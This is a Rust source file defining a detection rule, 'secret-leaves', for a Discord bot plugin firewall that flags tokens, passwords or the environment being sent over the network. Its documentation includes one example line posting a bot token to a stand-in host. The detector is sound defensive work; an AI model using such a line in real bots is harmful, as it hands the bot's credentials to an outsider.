//! Secrets that leave the bot.

use crate::core::finding::{Confidence, Kind, Rule, Severity};
use crate::firewall::analysis::host_of;
use crate::firewall::check::{Check, Objections};
use crate::firewall::fact::Call;
use crate::firewall::fact::{Fact, FactKind, Place};
use crate::firewall::tables::Sink;
use crate::firewall::value::{Abstract, Marks, Value};

pub(crate) static CHECK: Check = Check { rule: &RULE, sees: &[FactKind::Call], look };

pub(crate) static RULE: Rule = Rule {
    id: "SNR501",
    name: "secret-leaves",
    kind: Kind::Violation,
    cwe: 200,
    severity: Severity::Critical,
    confidence: Confidence::High,
    help: "do not run this plugin; no grant allows a secret to be sent anywhere",
    docs: r#"## What it does

Looks for secrets (tokens, passwords of nodes, session ids, the whole environment, secret variables) that are sent over the network or into a Discord channel. A key for a service may be sent to a host of that service.

## Why it is bad

Whoever receives the token of a bot is the bot.

## Example

    await session.post("https://x.example", json={"content": bot.http.token})

## Fix

Leave the token to the library that signs in with it.

## References

[CWE-200](https://cwe.mitre.org/data/definitions/200.html), [CWE-506](https://cwe.mitre.org/data/definitions/506.html)
"#,
};

fn look(fact: &Fact<'_>, place: &Place<'_>, out: &mut Objections<'_>) {
    let Fact::Call(call) = fact else { return };
    let sends = match call.member.and_then(|member| member.sink) {
        Some(Sink::Net | Sink::Discord) => true,
        _ => matches!(
            call.path,
            "?.send" | "?.reply" | "?.send_message" | "?.respond" | "?.post" | "?.sendall"
        ),
    };
    if !sends {
        return;
    }
    let Some((secret, what)) = call.arguments.all().find_map(|argument| secret(argument, 0)) else {
        return;
    };
    if is_discord(call) {
        return;
    }
    let path = call.path.trim_start_matches(['?', '.']);
    out.object_to(&RULE, place, call.span, secret, format!("{what} is sent by `{path}`"));
}

/// Says whether a request goes to the interface of Discord, where a bot's token belongs.
fn is_discord(call: &Call<'_>) -> bool {
    let url = call.arguments.all().find_map(|argument| match &argument.value {
        Value::Str(url) | Value::Prefix(url) if url.starts_with("https://") => {
            Some(url.to_string())
        }
        _ => None,
    });
    let Some(url) = url else { return false };
    let host = host_of(&url, false).unwrap_or_default();
    matches!(host.as_str(), "discord.com" | "discordapp.com") && !url.contains("/webhooks/")
}

/// Returns the innermost secret of a value, which knows best how it got there, and what it is.
fn secret(value: &Abstract, depth: usize) -> Option<(&Abstract, &'static str)> {
    let within = match &value.value {
        _ if depth > 4 => None,
        Value::Sequence(parts) => parts.iter().take(64).find_map(|part| secret(part, depth + 1)),
        Value::Dict(pairs) => pairs.iter().take(64).find_map(|(_, part)| secret(part, depth + 1)),
        _ => None,
    };
    within.filter(|(part, _)| !part.steps().is_empty()).or_else(|| {
        if value.marks.has(Marks::SECRET) {
            Some((value, "a secret"))
        } else if value.marks.has(Marks::ENVIRONMENT) {
            Some((value, "the whole environment"))
        } else {
            within
        }
    })
}
